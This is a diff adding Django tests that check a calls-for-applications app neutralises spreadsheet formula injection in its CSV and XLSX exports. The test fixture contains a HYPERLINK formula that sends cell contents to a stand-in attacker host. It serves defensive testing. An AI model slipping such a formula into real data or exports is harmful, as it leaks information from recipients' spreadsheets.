@@ -232,3 +232,28 @@ def test_membre_du_comite_voit_ses_appels_sur_la_liste(client):
     page = client.get(reverse("appels:liste")).content.decode()
     assert "Mes espaces comité" in page
     assert f'href="/appels/{appel.slug}/comite/"' in page
+
+
+class TestExportSansFormule:
+    """Applications are written by the public: no formula reaches the committee's spreadsheet."""
+
+    FORMULE = '=HYPERLINK("http://pirate.example/?"&A1,"Voir")'
+
+    def test_csv_prefixes_formula_like_answers(self, client, appel, staff):
+        CandidatureFactory(
+            appel=appel,
+            nom_structure="+33 6 00 00 00 00",
+            reponses={"titre": self.FORMULE, "format": "visio"},
+        )
+        reponse = client.get(reverse("appels:export", args=[appel.slug, "csv"]))
+        texte = b"".join(reponse.streaming_content).decode("utf-8-sig")
+        ligne = next(csv.DictReader(io.StringIO(texte)))
+        assert ligne["intitule"] == "'" + self.FORMULE
+        assert ligne["structure"] == "'+33 6 00 00 00 00"
+
+    def test_xlsx_stores_them_as_strings(self, client, appel, staff):
+        CandidatureFactory(appel=appel, reponses={"titre": self.FORMULE, "format": "visio"})
+        reponse = client.get(reverse("appels:export", args=[appel.slug, "xlsx"]))
+        feuille = load_workbook(io.BytesIO(b"".join(reponse.streaming_content))).active
+        intitule = feuille.cell(row=2, column=2)
+        assert (intitule.value, intitule.data_type) == (self.FORMULE, "s")
